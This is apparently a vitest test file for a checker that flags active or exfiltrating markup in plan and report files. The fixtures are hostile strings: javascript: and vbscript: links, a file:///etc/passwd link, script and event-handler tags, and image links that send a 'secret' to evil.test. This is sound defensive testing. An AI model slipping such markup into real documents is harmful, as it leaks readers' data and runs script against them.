import { expect, test } from "vitest";
import { checkInertMarkup } from "../../../src/stage/checks/inert-markup.ts";
import type { CheckSubject } from "../../../src/stage/checks/check-result.ts";

const check = (text: string, name = "plan.md") =>
  checkInertMarkup({ artifacts: { [name]: text } } as unknown as CheckSubject);

test.each([
  "[approve](javascript:fetch('/x'))",
  "[open](<command:workbench.action.terminal.new>)",
  "[x][1]\n\n[1]: data:text/html;base64,AAAA",
  "<file:///etc/passwd>",
  "![build](https://evil.test/?q=secret)",
  "![build](//evil.test/x.png)",
  '<img alt="" src="http://evil.test/x">',
  "<ScRiPt>alert(1)</script>",
  '<details open ontoggle="alert(1)">',
  '<iframe src="x">',
  '<meta http-equiv="refresh" content="0;url=x">',
  "<a href='vbscript:x'>x</a>",
])("%s acts when it is shown or followed", (text) => {
  const found = check(`# Plan\n\n${text}\n`);
  expect(found).toMatchObject({ id: "inert-markup", passed: false, blocking: true });
  expect(found.findings[0]).toMatch(/^plan\.md:\d+ has /);
});

test.each([
  "[docs](https://example.org/a?b=c), <https://example.org>, <mail@example.org>",
  "[risks](#risk-assessment) and ![chart](images/chart.svg)",
  "Use `<script>` and\n```html\n<iframe src=x>\n![x](https://x.test/y)\n```",
  "\\` a `<script>` b \\` and ``x ` <iframe>`` and `a\\` &lt;script>",
  "data: rows; file: plan.md; a < b on = c; <details><summary>More</summary></details>",
  "| on | base | <br> |",
])("%s does not", (text) => {
  expect(check(text).findings).toEqual([]);
});

test("in a page code is no excuse, and not everything is listed", () => {
  const page = `<style>p { color: red }</style><p>ok</p>\n\`<script>\`\n`;
  expect(check(page, "coverage_report.html").findings).toEqual([
    "coverage_report.html:2 has an element that acts.",
  ]);
  expect(check("<form>\n".repeat(30)).findings.at(-1)).toBe("plan.md has 10 more of such places.");
});
